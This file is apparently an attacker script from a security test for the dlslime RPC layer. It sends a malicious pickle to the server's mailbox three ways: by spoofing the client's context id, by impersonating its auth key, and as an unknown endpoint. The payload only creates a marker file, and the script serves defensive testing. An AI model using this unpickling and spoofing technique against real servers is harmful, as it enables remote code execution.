"""The third process of the RPC pickle-injection test (issue 11, item 1):
``python rpc_attacker.py SERVER_INFO_JSON CLIENT_INFO_JSON MARKER``.

It knows what a reader of Redis knows: the server's endpoint_info (with the RPC
mailbox's address and key in ``mr_info``) and the client's. It sends a pickle that
would create MARKER when unpickled, as a request in mailbox slot 0, three ways:

* ``v1``: a raw socket with the protocol-1 hello presenting the client's context_id,
  then a write-with-immediate frame (the issue's exact attack);
* ``impostor``: a raw socket claiming the client's auth_key without its secret;
* ``stranger``: its own dlslime endpoint (its own key pair) connected to the server.

Prints one JSON line: what each attempt got back.
"""

import json
import os
import pickle
import socket
import struct
import sys

import dlslime

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rpc_service import Evil  # noqa: E402


def mailbox(info):
    for name, mr in info["mr_info"].items():
        if name.startswith("rpc:mailbox:"):
            return mr
    raise SystemExit("no RPC mailbox in the server's mr_info")


def message(marker):
    body = pickle.dumps(((Evil(marker),), {}), pickle.HIGHEST_PROTOCOL)
    return struct.pack("<IIQ", 0, 16 + len(body), 1) + body


def frame(op, size, addr, key, endpoint, req, imm, flags=0):
    return struct.pack("<QQBBHIQQiI", size, addr, op, flags, 0, endpoint, key, req, imm, 0)


def read_all(s, limit=20.0):
    s.settimeout(limit)
    got = b""
    try:
        while True:
            b = s.recv(4096)
            if not b:
                return got
            got += b
    except (ConnectionResetError, BrokenPipeError):
        return got


def main():
    server, client, marker = json.loads(sys.argv[1]), json.loads(sys.argv[2]), sys.argv[3]
    mbox = mailbox(server)
    msg = message(marker)
    wimm = frame(3, len(msg), mbox["addr"], mbox["rkey"], server["endpoint_id"], 1, 0) + msg
    addr = (server["host"], server["port"])
    out = {}

    # 1. protocol 1, the client's context id
    s = socket.create_connection(addr)
    s.sendall(b"DLSLIMEt" + struct.pack("<HHIQ", 1, 0, 0, client["context_id"]))
    ans = s.recv(24)
    try:
        s.sendall(wimm)
    except OSError:
        pass
    out["v1"] = {"status": struct.unpack("<H", ans[10:12])[0], "more": len(read_all(s))}

    # 2. the client's public key, no secret: a guessed proof, then the frame
    s = socket.create_connection(addr)
    key = bytes.fromhex(client["auth_key"])
    s.sendall(b"DLSLIMEt" + struct.pack("<HHIQ", 2, 0, 0, client["context_id"]) + key + os.urandom(32))
    resp = b""
    while len(resp) < 24 + 96:
        b = s.recv(24 + 96 - len(resp))
        if not b:
            break
        resp += b
    try:
        s.sendall(os.urandom(32) + wimm)
    except OSError:
        pass
    out["impostor"] = {"response": len(resp), "replies": len(read_all(s))}

    # 3. a stranger with its own keys and a real endpoint
    ep = dlslime.TcpEndpoint(dlslime.MemoryPool(), dlslime.TcpContext(bind="127.0.0.1:0"))
    buf = bytearray(msg)
    h = ep.register_memory_region("evil", buf)
    ep.connect(server)
    r = ep.register_remote_memory_region("mbox", mbox)
    try:
        ep.write_with_imm([(h, r, 0, 0, len(msg))], 0, timeout=30).wait()
        out["stranger"] = "accepted"
    except dlslime.DLSlimeError as e:
        out["stranger"] = type(e).__name__
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
